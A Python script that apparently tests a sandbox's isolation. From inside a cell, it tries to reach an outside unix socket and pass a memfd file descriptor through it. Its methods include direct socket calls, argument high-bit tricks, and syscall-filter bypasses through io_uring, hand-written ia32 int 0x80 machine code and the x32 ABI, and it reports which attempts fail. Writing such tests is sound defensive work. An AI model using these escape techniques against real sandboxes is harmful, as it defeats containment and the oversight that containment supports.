"""An attack program: it runs in a cell, with the system's Python alone, and tries to reach a unix
socket outside.

    socket_attacks.py ADDRESS WAY …

Each way sends its own name, and where it can the descriptor of a file that lies nowhere on the
disk; what failed is printed.  A way is a detour (`DETOURS`), or three words: where the socket comes
from, its type, and how it is used.  An address that begins with `@` is abstract.
"""

from __future__ import annotations

import array
import ctypes
import mmap
import os
import platform
import socket
import struct
import sys
from typing import Any

SECRET = b"a file from within"
RECEIVING = "/mnt/own"
"""Where a socket is bound to which a file is to be sent."""
MACHINE = platform.machine()
libc = ctypes.CDLL(None, use_errno=True)
SOCKET_CALLS = {"x86_64": (41, 53), "aarch64": (198, 199)}.get(MACHINE, (0, 0))
"""Numbers of `socket` and `socketpair`."""


def checked(result: int) -> int:
    """The result of a C function, or the error that it met."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def plain(address: str) -> str:
    """An address as Python has it."""
    return f"\0{address[1:]}" if address.startswith("@") else address


def raw(address: str) -> bytes:
    """An address as the kernel has it."""
    name = os.fsencode(plain(address))
    return struct.pack("H", socket.AF_UNIX) + name + (b"" if address[0] == "@" else b"\0")


# --- where a socket comes from


def made(kind: str) -> socket.socket:
    """A socket of its own."""
    return socket.socket(socket.AF_UNIX, getattr(socket, f"SOCK_{kind}"))


def paired(kind: str) -> socket.socket:
    """One end of a pair; the other is closed, so that nothing but the address leads anywhere."""
    end, other = socket.socketpair(socket.AF_UNIX, getattr(socket, f"SOCK_{kind}"))
    other.close()
    return end


def paired_with_more_bits(kind: str) -> socket.socket:
    """The same, with both flags, and bits in the upper half of each argument: the kernel ignores
    those.
    """
    flags = socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK
    numbers = (ctypes.c_int * 2)()
    upper = 0x7 << 32
    checked(
        libc.syscall(
            ctypes.c_long(SOCKET_CALLS[1]),
            ctypes.c_long(upper | socket.AF_UNIX),
            ctypes.c_long(upper | getattr(socket, f"SOCK_{kind}") | flags),
            ctypes.c_long(0),
            numbers,
        )
    )
    return socket.socket(fileno=numbers[0])


# --- how it is used


def rights() -> list[tuple[int, int, Any]]:
    """A file, to be sent along."""
    file = os.memfd_create("secret")
    os.write(file, SECRET)
    return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))]


def sendto(end: socket.socket, address: str, message: bytes) -> None:
    end.sendto(message, plain(address))


def sendmsg(end: socket.socket, address: str, message: bytes) -> None:
    end.sendmsg([message], rights(), 0, plain(address))


class Header(ctypes.Structure):
    """What `sendmsg` takes, and `sendmmsg` several of."""

    _fields_ = (
        ("name", ctypes.c_char_p),
        ("name_length", ctypes.c_uint),
        ("vectors", ctypes.c_void_p),
        ("vector_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("length", ctypes.c_uint),
        ("after", ctypes.c_uint),
    )


class Vector(ctypes.Structure):
    """Some bytes."""

    _fields_ = (("base", ctypes.c_char_p), ("length", ctypes.c_size_t))


def sendmmsg(end: socket.socket, address: str, message: bytes) -> None:
    vector = Vector(message, len(message))
    name = raw(address)
    header = Header(name, len(name), ctypes.addressof(vector), 1)
    checked(libc.sendmmsg(end.fileno(), ctypes.byref(header), 1, 0))


def connect(end: socket.socket, address: str, message: bytes) -> None:
    end.connect(plain(address))
    end.sendmsg([message], rights())


def reconnect(end: socket.socket, address: str, message: bytes) -> None:
    leave_peer(end)
    connect(end, address, message)


def leave_peer(end: socket.socket) -> None:
    """Connect to AF_UNSPEC, which dissolves the connection of a datagram socket."""
    libc.connect(end.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16)


def receive(end: socket.socket, address: str, message: bytes) -> None:
    """Have a file sent in from outside, and write to it."""
    leave_peer(end)
    end.bind(RECEIVING)
    sendto(end, address, message)
    _, extra, _, _ = end.recvmsg(10, 100)
    [(_, _, data)] = extra
    os.write(struct.unpack("i", data)[0], message)


# --- ways around the filter: io_uring and other ABIs


class IoUring:
    """Calls that the kernel makes for us, from a queue in shared memory."""

    SOCKET, CONNECT, SEND = 45, 16, 26

    def __init__(self) -> None:
        parameters = bytearray(120)
        address = (ctypes.c_char * 120).from_buffer(parameters)
        self._fd = checked(libc.syscall(ctypes.c_long(425), ctypes.c_long(4), address))
        fields = struct.unpack("30I", parameters)
        self._tail, self._array = fields[11], fields[16]
        self._results = fields[25]
        size = max(self._array + 4 * fields[0], self._results + 16 * fields[1])
        self._ring = mmap.mmap(self._fd, size, mmap.MAP_SHARED)
        self._entries = mmap.mmap(self._fd, 64 * fields[0], mmap.MAP_SHARED, offset=0x10000000)
        self._count = 0

    def call(self, what: int, fd: int, offset: int, address: int, length: int) -> int:
        """Make one call and wait for its result."""
        entry = struct.pack("BBHiQQI36x", what, 0, 0, fd, offset, address, length)
        slot = self._count % 4
        self._entries[64 * slot : 64 * slot + 64] = entry
        self._put(self._array + 4 * slot, slot)
        self._count += 1
        self._put(self._tail, self._count)
        one = ctypes.c_long(1)
        checked(libc.syscall(ctypes.c_long(426), ctypes.c_long(self._fd), one, one, one, None, 0))
        at = self._results + 16 * ((self._count - 1) % 8)
        result: int = struct.unpack_from("i", self._ring, at + 8)[0]
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    def _put(self, at: int, value: int) -> None:
        self._ring[at : at + 4] = struct.pack("I", value)


def by_io_uring(address: str, message: bytes) -> None:
    ring = IoUring()
    name = raw(address)
    where = ctypes.create_string_buffer(name, len(name))
    text = ctypes.create_string_buffer(message)
    end = ring.call(IoUring.SOCKET, socket.AF_UNIX, socket.SOCK_DGRAM, 0, 0)
    ring.call(IoUring.CONNECT, end, len(name), ctypes.addressof(where), 0)
    ring.call(IoUring.SEND, end, 0, ctypes.addressof(text), len(message))


class Ia32:
    """Calls as a 32-bit program makes them, with other numbers and addresses below 4 GB."""

    _CODE = bytes.fromhex("53558b078b5f048b4f088b570c8b77108b6f188b7f14cd805d5bc3")
    """Loads the registers from where the first argument points, and interrupts."""

    def __init__(self) -> None:
        below_4_gb = 0x40
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | below_4_gb
        protection = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        self._memory = mmap.mmap(-1, 4096, flags=flags, prot=protection)
        self._memory[: len(self._CODE)] = self._CODE
        self._base = ctypes.addressof(ctypes.c_char.from_buffer(self._memory))
        self._used = 256

    def place(self, data: bytes) -> int:
        """Put something where such a program could have it."""
        at, self._used = self._used, self._used + len(data) + 8
        self._memory[at : at + len(data)] = data
        return self._base + at

    def call(self, *numbers: int) -> int:
        """Make a call with these for its number and arguments."""
        registers = self.place(struct.pack("7I", *(*numbers, *[0] * (7 - len(numbers)))))
        function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long)(self._base)
        result: int = function(registers)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    def several(self, what: int, *arguments: int) -> int:
        """A call of `socketcall`, which is all calls of sockets in one."""
        return self.call(102, what, self.place(struct.pack(f"{len(arguments)}I", *arguments)))


def send_by_ia32(ia32: Ia32, end: int, address: str, message: bytes) -> None:
    name = raw(address)
    ia32.call(369, end, ia32.place(message), len(message), 0, ia32.place(name), len(name))


def by_ia32_socket(address: str, message: bytes) -> None:
    ia32 = Ia32()
    send_by_ia32(ia32, ia32.call(359, socket.AF_UNIX, socket.SOCK_DGRAM, 0), address, message)


def by_ia32_pair(address: str, message: bytes) -> None:
    ia32 = Ia32()
    numbers = ia32.place(bytes(8))
    ia32.call(360, socket.AF_UNIX, socket.SOCK_DGRAM, 0, numbers)
    send_by_ia32(ia32, ctypes.c_int.from_address(numbers).value, address, message)


def by_ia32_socketcall(address: str, message: bytes) -> None:
    ia32 = Ia32()
    end = ia32.several(1, socket.AF_UNIX, socket.SOCK_DGRAM, 0)
    name = raw(address)
    sent, there = ia32.place(message), ia32.place(name)
    ia32.several(11, end, sent, len(message), 0, there, len(name))


def by_x32(address: str, message: bytes) -> None:
    """The x32 ABI has the same numbers, with one bit set."""
    call = ctypes.c_long(0x40000000 | SOCKET_CALLS[0])
    end = checked(libc.syscall(call, socket.AF_UNIX, socket.SOCK_DGRAM, 0))
    sendto(socket.socket(fileno=end), address, message)


SOURCES = {"made": made, "paired": paired, "more-bits": paired_with_more_bits}
USES = {
    "sendto": sendto,
    "sendmsg": sendmsg,
    "sendmmsg": sendmmsg,
    "connect": connect,
    "reconnect": reconnect,
    "receive": receive,
}
DETOURS = {
    "io_uring": by_io_uring,
    "ia32-socket": by_ia32_socket,
    "ia32-pair": by_ia32_pair,
    "ia32-socketcall": by_ia32_socketcall,
    "x32": by_x32,
}


def attempt(way: str, address: str) -> None:
    message = way.encode()
    if way in DETOURS:
        DETOURS[way](address, message)
        return
    source, kind, use = way.split()
    USES[use](SOURCES[source](kind), address, message)


def main(address: str, *ways: str) -> None:
    """Try each; say which failed, and why."""
    for way in ways:
        try:
            attempt(way, address)
        except OSError as error:
            print(f"{way}: {error.strerror}")


if __name__ == "__main__":
    main(*sys.argv[1:])
